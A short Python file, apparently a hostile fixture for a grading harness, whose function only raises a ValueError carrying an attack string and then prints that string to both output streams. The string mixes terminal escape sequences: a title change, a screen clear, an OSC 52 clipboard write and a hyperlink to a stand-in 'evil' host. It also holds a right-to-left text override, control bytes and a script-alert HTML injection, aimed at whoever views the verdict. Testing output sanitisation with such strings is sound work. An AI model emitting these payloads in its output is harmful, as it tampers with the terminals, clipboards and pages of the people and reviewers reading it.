# /// attack
# says = "stopped with ValueError"
# ///
"""Send escape codes, a bell, reversed text and links to the terminal and the page of whoever reads the verdict."""

import sys


def retrain_plan(rows_per_period, policy, *, window=None, alarms=(), label_delay=0):
    raise ValueError(EVIL)


EVIL = "\x1b]0;owned\x07\x1b[2J\x1b]52;c;ZXZpbA==\x07\x1b]8;;http://evil\x07x\x1b\\\x9b31m\u202emoc\u202c\x00\r\x08<script>alert(1)</script>"
print(EVIL)
print(EVIL, file=sys.stderr)
